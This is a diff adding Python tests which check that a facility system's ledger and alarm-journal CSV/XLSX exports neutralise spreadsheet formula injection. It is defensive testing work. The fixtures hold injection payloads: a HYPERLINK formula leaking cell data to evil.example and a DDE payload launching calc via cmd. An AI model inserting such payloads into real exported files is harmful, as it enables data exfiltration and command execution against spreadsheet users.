@@ -3,6 +3,9 @@ exports stay inert, /metrics can ask for a token (issue 11, "Secrets hygiene")."
 
 from __future__ import annotations
 
+import csv
+import dataclasses
+import io
 import os
 import signal
 import stat
@@ -12,6 +15,7 @@ import time
 from pathlib import Path
 
 from devtools.services import InfluxServer, MosquittoServer
+from facility.types import Asset
 
 CLI = [sys.executable, "-c", "from facility.cli import main; main()"]
 START_WAIT_S = 60
@@ -113,3 +117,73 @@ async def test_the_opcua_client_private_key_is_created_0600(tmp_path: Path) -> N
         assert security.own_certificate.exists()
     finally:
         os.umask(old_umask)
+
+
+HOSTILE = {
+    "name_en": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "make": "+cmd|' /C calc'!A0",
+    "model": "-2+3",
+    "serial": "@SUM(1,1)",
+    "building": "'quoted already",
+    "zone": "-12.5",  # a number as text: shown as a number, nothing to run
+}
+
+
+def _hostile_ledger() -> list[Asset]:
+    from maintenance.ledger_files import demo_ledger_paths, read_ledger_file
+
+    assets = read_ledger_file(demo_ledger_paths()[0])
+    return [dataclasses.replace(assets[0], **HOSTILE), *assets[1:3]]
+
+
+def test_ledger_exports_neutralise_formulas_and_read_back_unchanged(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    from maintenance.ledger import COLUMNS
+    from maintenance.ledger_files import read_ledger_file, write_ledger_file
+
+    assets = _hostile_ledger()
+    csv_path, xlsx_path = tmp_path / "ledger.csv", tmp_path / "ledger.xlsx"
+    write_ledger_file(assets, csv_path)
+    write_ledger_file(assets, xlsx_path)
+
+    rows = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines()))
+    written = dict(zip(rows[0], rows[1], strict=True))
+    sheet = load_workbook(xlsx_path).worksheets[0]
+    cells = {name: sheet.cell(row=2, column=i + 1) for i, name in enumerate(COLUMNS)}
+    assert {name: cells[name].data_type for name in HOSTILE} == {name: "s" for name in HOSTILE}
+    for name in ("name_en", "make", "serial"):
+        assert written[name] == "'" + HOSTILE[name]
+        assert cells[name].value == "'" + HOSTILE[name]
+    assert written["model"] == cells["model"].value == "'-2+3"  # a sum, not a number
+    assert written["zone"] == cells["zone"].value == "-12.5"
+    assert written["building"] == "''quoted already"
+
+    assert read_ledger_file(csv_path) == assets
+    assert read_ledger_file(xlsx_path) == assets
+
+
+def test_alarm_journal_csv_neutralises_formulas() -> None:
+    from gateway.alarms.journal import AlarmRecord, write_csv
+
+    record = AlarmRecord.from_json(
+        {
+            "id": 1,
+            "at": "2026-01-01T00:00:00+00:00",
+            "alarm_id": "HT-PMP-001/fault",
+            "site": "HT",
+            "asset_no": "HT-PMP-001",
+            "alarm": "fault",
+            "event": "ack",
+            "value": -3,
+            "user": "@ops",
+            "comment": '=HYPERLINK("http://evil.example","x")',
+            "detail": {},
+        }
+    )
+    out = io.StringIO()
+    write_csv([record], out)
+    row = dict(zip(*csv.reader(out.getvalue().splitlines()), strict=True))
+    assert row["comment"] == "'" + '=HYPERLINK("http://evil.example","x")'
+    assert row["user"] == "'@ops"
+    assert row["value"] == "-3"
